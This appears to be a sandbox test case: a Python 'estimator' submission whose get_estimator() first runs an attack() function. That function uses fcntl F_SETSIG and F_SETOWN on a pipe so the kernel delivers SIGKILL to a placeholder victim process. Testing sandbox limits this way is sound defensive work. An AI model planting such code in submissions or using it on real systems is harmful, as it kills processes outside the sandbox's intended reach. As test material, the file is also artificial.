"""processes: has the kernel send a signal of its choice when a pipe is ready

Passes at: limits.
"""

import fcntl
import os

from sklearn.dummy import DummyClassifier


def attack():
    reader, writer = os.pipe()
    fcntl.fcntl(reader, 10, 9)
    fcntl.fcntl(reader, fcntl.F_SETOWN, int("@victim@"))
    fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(writer, b"x")


def get_estimator():
    attack()
    return DummyClassifier()
